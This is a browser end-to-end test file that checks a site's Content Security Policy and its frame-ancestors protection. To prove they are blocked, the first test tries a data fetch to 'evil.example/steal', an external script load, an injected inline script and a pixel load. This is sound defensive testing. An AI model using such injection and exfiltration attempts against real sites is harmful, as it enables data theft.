import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { openPanel } from '../../rig/e2e/panel.ts';
import { expect, test } from '../../rig/e2e/test.ts';
import { testSiteConfigInput } from '../../rig/site/testSiteConfig.ts';

test('the CSP blocks a fetch, a script, an inline script and an image from an unlisted host', async ({
  page,
  siteUrl,
  pageRecord,
}) => {
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({ status: 200, body: 'window.__pwned = 1' }),
  );
  await openPanel(page, siteUrl);
  const outcome = await page.evaluate(async () => {
    const fetched = await fetch('https://evil.example/steal').then(
      () => 'sent',
      () => 'blocked',
    );
    const external = document.createElement('script');
    external.src = 'https://evil.example/x.js';
    const externalLoaded = new Promise((resolve) => {
      external.onload = () => resolve('loaded');
      external.onerror = () => resolve('blocked');
    });
    document.head.append(external);
    const inline = document.createElement('script');
    inline.textContent = 'window.__pwned = 2';
    document.head.append(inline);
    const image = new Image();
    const imageLoaded = new Promise((resolve) => {
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('blocked');
    });
    image.src = 'https://evil.example/pixel.gif';
    return {
      fetched,
      external: await externalLoaded,
      image: await imageLoaded,
      pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
    };
  });
  expect(outcome).toEqual({ fetched: 'blocked', external: 'blocked', image: 'blocked', pwned: null });
  await expect
    .poll(() => pageRecord.cspViolations.map((violation) => violation.split(' ')[0]).sort())
    .toEqual(['connect-src', 'img-src', 'script-src-elem', 'script-src-elem']);
  expect(
    pageRecord.cspViolations.every((violation) => / (https:\/\/evil\.example\/|inline)/.test(violation)),
  ).toBe(true);
  pageRecord.cspViolations.length = 0;
});

test('the page refuses to be framed (frame-ancestors none), while a framable page on the same host loads', async ({
  page,
  siteUrl,
}) => {
  const framer = createServer((request, response) => {
    response.setHeader('content-type', 'text/html');
    if (request.url === '/inner') response.end('<!doctype html><title>inner</title><h1>framable</h1>');
    else
      response.end(
        `<!doctype html><title>framer</title><iframe src="/inner"></iframe><iframe src="${siteUrl}/"></iframe>`,
      );
  });
  await new Promise<void>((resolve) => framer.listen(0, '127.0.0.1', resolve));
  try {
    const { port } = framer.address() as AddressInfo;
    await page.goto(`http://127.0.0.1:${port}/`);
    const [, control, site] = page.frames();
    await expect(control?.locator('h1') ?? page.locator('nothing')).toHaveText('framable');
    await expect.poll(() => site?.url()).toBe('chrome-error://chromewebdata/');
    await expect(site?.getByText(testSiteConfigInput.name) ?? page.locator('nothing')).toHaveCount(0);
  } finally {
    await new Promise((resolve) => framer.close(resolve));
  }
});
